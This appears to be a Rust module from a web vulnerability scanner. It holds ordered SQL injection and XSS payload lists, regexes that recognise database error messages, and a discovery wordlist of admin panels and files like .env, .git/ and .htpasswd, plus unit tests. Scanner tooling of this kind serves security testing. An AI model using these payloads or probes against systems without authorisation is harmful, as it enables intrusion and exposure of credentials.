//! Static payload lists, error signatures, and wordlists
//!
//! All lists are ordered, read-only configuration. Probing iterates them in
//! declaration order and stops at the first positive signal, so list order
//! is part of the scanner's observable behavior.

use regex::Regex;

/// SQL injection payloads, tried in order against each surface
pub const SQL_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "' OR '1'='1' --",
    "' OR '1'='1' #",
    "' OR 'x'='x",
    "\\' OR \"1\"=\"1\"",
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "') OR ('1'='1",
    "admin' --",
    "admin' #",
    "' OR '1'='1' LIMIT 1--",
    "1' ORDER BY 1--",
    "1' ORDER BY 2--",
    "1' ORDER BY 3--",
];

/// Logically-false tautology appended for the length-differential check
pub const FALSE_CONDITION_SUFFIX: &str = " AND '1'='2";

/// XSS payloads, tried in order against each form surface
pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"onmouseover=alert(1)",
    "javascript:alert(1)",
];

/// Checks a response body for database error banners and returns the engine
/// name on a match. Patterns are ordered and case-insensitive.
pub fn sql_error_signature(body: &str) -> Option<&'static str> {
    let patterns: &[(&str, &str)] = &[
        (r"(?i)SQL syntax.*MySQL", "MySQL"),
        (r"(?i)you have an error in your sql syntax", "MySQL"),
        (r"(?i)Warning.*mysql_", "MySQL"),
        (r"(?i)PostgreSQL.*ERROR", "PostgreSQL"),
        (r"(?i)unclosed quotation mark", "MSSQL"),
        (r"(?i)Driver.*SQL.*Server", "MSSQL"),
        (r"(?i)Microsoft SQL Native Client", "MSSQL"),
        (r"(?i)ORA-[0-9]{4,5}", "Oracle"),
        (r"(?i)SQLite/JDBCDriver", "SQLite"),
        (r"(?i)SQLITE_ERROR", "SQLite"),
        (r"(?i)System\.Data\.SQLite\.SQLiteException", "SQLite"),
        (r"(?i)sqlstate\[", "Generic SQL (PDO)"),
        (r"(?i)odbc.*driver", "ODBC"),
    ];

    for (pattern, engine) in patterns {
        if let Ok(re) = Regex::new(pattern) {
            if re.is_match(body) {
                return Some(engine);
            }
        }
    }
    None
}

/// Built-in path wordlist for the discovery module
pub const DEFAULT_WORDLIST: &[&str] = &[
    // admin panels
    "admin/",
    "administrator/",
    "login/",
    "wp-admin/",
    "admin.php",
    "admin.html",
    "administrator.php",
    "login.php",
    // configuration files
    "config.php",
    "configuration.php",
    "config.inc.php",
    "wp-config.php",
    ".env",
    "config.yml",
    "config.xml",
    // info scripts
    "phpinfo.php",
    "info.php",
    "test.php",
    "readme.html",
    "README.md",
    "changelog.txt",
    "license.txt",
    // system paths
    ".git/",
    ".svn/",
    ".htaccess",
    "robots.txt",
    "sitemap.xml",
    "crossdomain.xml",
    // common directories
    "backup/",
    "backups/",
    "database/",
    "db/",
    "logs/",
    "temp/",
    "tmp/",
    "images/",
    "uploads/",
    "files/",
    "admin/backup/",
    // API endpoints
    "api/",
    "api/v1/",
    "api/v2/",
    "swagger/",
    "swagger-ui.html",
    "api-docs/",
    "graphql",
    // error pages
    "error/",
    "404.php",
    "500.php",
    "error.log",
    // sensitive files
    ".DS_Store",
    "web.config",
    ".htpasswd",
    "composer.json",
    "package.json",
    "yarn.lock",
    "Gemfile",
    "requirements.txt",
];

/// Keywords that mark a discovered path as high risk
pub const SENSITIVE_KEYWORDS: &[&str] = &[
    "admin", "config", "backup", "db", "database", "log", "password", "secret", "key", ".git",
    ".env", "phpinfo", "api",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_mysql_error_signature() {
        let body = "<html>You have an error in your SQL syntax near ''1'='1'</html>";
        assert_eq!(sql_error_signature(body), Some("MySQL"));
    }

    #[test]
    fn test_oracle_error_signature() {
        assert_eq!(sql_error_signature("ORA-01756: quoted string"), Some("Oracle"));
    }

    #[test]
    fn test_mssql_error_signature() {
        assert_eq!(
            sql_error_signature("Unclosed quotation mark after the character string"),
            Some("MSSQL")
        );
    }

    #[test]
    fn test_clean_body_has_no_signature() {
        assert_eq!(sql_error_signature("<html>Welcome back, admin</html>"), None);
    }

    #[test]
    fn test_payload_lists_are_non_empty_and_ordered() {
        assert_eq!(SQL_PAYLOADS[0], "' OR '1'='1");
        assert_eq!(XSS_PAYLOADS[0], "<script>alert(1)</script>");
    }
}
